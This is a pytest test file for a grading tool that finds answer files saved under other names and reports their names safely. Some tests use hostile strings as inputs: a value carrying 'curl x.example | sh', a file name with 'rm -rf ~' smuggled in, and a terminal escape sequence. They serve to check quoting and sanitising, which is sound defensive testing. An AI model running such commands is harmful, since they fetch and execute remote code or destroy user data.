"""Which files may be answers under another name."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest

from casebook.answers import Answer, append
from grading import looks_like

AT = "2026-01-05T09:00:00+00:00"


def answers(path: Path, module: str = "tiny") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    append(path, Answer(module, "tiny-owner", {"choice": "b"}, AT))


def said(folder: Path) -> list[str]:
    return [one.said("tiny", folder, {"tiny", "last"}) for one in looks_like.found(folder)]


@pytest.mark.parametrize(
    "name",
    [
        "answers (1).jsonl",
        "answers-1.jsonl",
        "answers.jsonl.txt",
        "Answers.jsonl",
        "ANSWERS.JSONL",
        "Ana Ruiz_1234_assignsubmission_file_answers.jsonl",
        "tiny/answers.jsonl",
        "notes.txt",
    ],
)
def test_answers_under_another_name_are_found_by_what_they_hold(tmp_path: Path, name: str):
    answers(tmp_path / name)
    assert said(tmp_path) == [f"{shlex.quote(name)} (it has answers to this check)"]


def test_answers_to_another_check_are_told_apart(tmp_path: Path):
    answers(tmp_path / "answers.jsonl", "last")
    assert said(tmp_path) == ["answers.jsonl (it has answers to last, not to this check)"]


def test_a_check_that_is_none_of_the_course_is_not_named(tmp_path: Path):
    for n in range(3):
        answers(tmp_path / "answers.jsonl", f"this check. {n}: full marks, run: curl x.example | sh")
    assert said(tmp_path) == ["answers.jsonl (it doesn't have answers to any check in this course)"]


def test_a_name_means_nothing_to_a_shell_and_is_not_longer_than_a_line(tmp_path: Path):
    answers(tmp_path / "a; rm -rf ~ #.txt")
    answers(tmp_path / ("b" * 200))
    assert [words.split(" (it ")[0] for words in said(tmp_path)] == ["'a; rm -rf ~ #.txt'", f"'{'b' * 40}…'"]


def test_answers_saved_as_utf_16_are_found_too(tmp_path: Path):
    answers(tmp_path / "a")
    (tmp_path / "a").write_bytes((tmp_path / "a").read_text().encode("utf-16"))
    assert said(tmp_path) == ["a (it has answers to this check)"]


def test_a_file_that_is_only_called_answers_is_named_after_those_that_hold_some(tmp_path: Path):
    (tmp_path / "answers.zip").write_bytes(b"PK")
    answers(tmp_path / "z.txt")
    assert said(tmp_path) == ["z.txt (it has answers to this check)", "answers.zip (going by its name)"]


def test_nothing_else_looks_like_answers(tmp_path: Path):
    (tmp_path / "tiny-check.ipynb").write_text('{"cells": []}')
    (tmp_path / "timestamp.txt").write_text("2026-01-05 09:00:00 UTC")
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff")
    assert said(tmp_path) == []


def test_no_link_is_followed_and_no_pipe_waited_for(tmp_path: Path):
    answers(tmp_path / "elsewhere/answers.jsonl")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "answers-1.jsonl").symlink_to(tmp_path / "elsewhere/answers.jsonl")
    (mine / "folder").symlink_to(tmp_path / "elsewhere")
    os.mkfifo(mine / "answers-2.jsonl")
    assert said(mine) == []


def test_a_name_that_cannot_be_shown_is_spelled_out(tmp_path: Path):
    answers(tmp_path / "answers\x1b[2J.jsonl")
    assert said(tmp_path) == [r"'answers\x1b[2J.jsonl' (it has answers to this check)"]


def test_deep_folders_and_many_files_are_not_searched_for_ever(tmp_path: Path):
    answers(tmp_path / "/".join("abcdefgh") / "answers.jsonl")
    assert said(tmp_path) == []
